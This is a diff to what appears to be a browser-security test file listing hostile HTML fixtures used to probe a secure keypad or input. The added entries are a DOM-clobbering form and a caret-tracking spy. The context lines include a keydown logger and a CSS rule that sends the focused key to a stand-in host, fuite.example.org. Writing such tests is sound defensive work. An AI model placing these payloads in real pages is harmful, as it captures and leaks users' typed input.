@@ -56,6 +56,8 @@ DOCUMENTS = {
     "moves by fragments": FORM + "<script>setInterval(() => location.hash = Math.random(), 5)</script>",
     "many frames": FORM + "<script>for (let i = 0; i < 150; i++) document.documentElement.append(document.createElement('iframe'))</script>",
     "handlers as properties": FORM + "<script>onkeydown = document.onkeydown = (e) => tell('on:' + e.key); document.documentElement.onkeyup = onkeydown</script>",
+    "form whose parts bear the names of what it can do": SPY + "<form id=secret tabindex=0 contenteditable>&nbsp;<button name=matches hidden></button>"
+    "<button name=getRootNode hidden></button></form>",
     "navigation intercepted": FORM + "<script>window.navigation?.addEventListener('navigate', (e) => { e.preventDefault(); })</script>",
 }  # fmt: skip
 
@@ -78,6 +80,8 @@ POINTED = {
     "style of what has the focus": SPY + KEYPAD + "<style>" + "".join(f".key[data-key='{c}']:focus {{ background: url('https://fuite.example.org/leak?focus{c}') }}" for c in TYPED) + "</style>",
     "slider": SPY + "<input class=key id=secret type=range min=0 max=9 value=0 style='width:400px'><script>setInterval(() => secret.value > 0 && tell('slid:' + secret.value), 15)</script>",
     "radio": SPY + "<label class=key><input id=secret type=radio name=a value=1>un</label><script>setInterval(() => secret.checked && tell('checked'), 15)</script>",
+    "fields for keys": SPY + "<input class=key id=secret readonly onfocus='tell(\"focused\")'><div class=key contenteditable>0123456789</div>"
+    "<script>document.onselectionchange = () => tell('caret:' + getSelection().anchorOffset)</script>",
     "label": SPY + "<label class=key for=secret>sept</label><input id=secret onfocus='tell(\"focused\")'>",
 }  # fmt: skip
 """What is chosen with the pointer, by anything else than a click."""
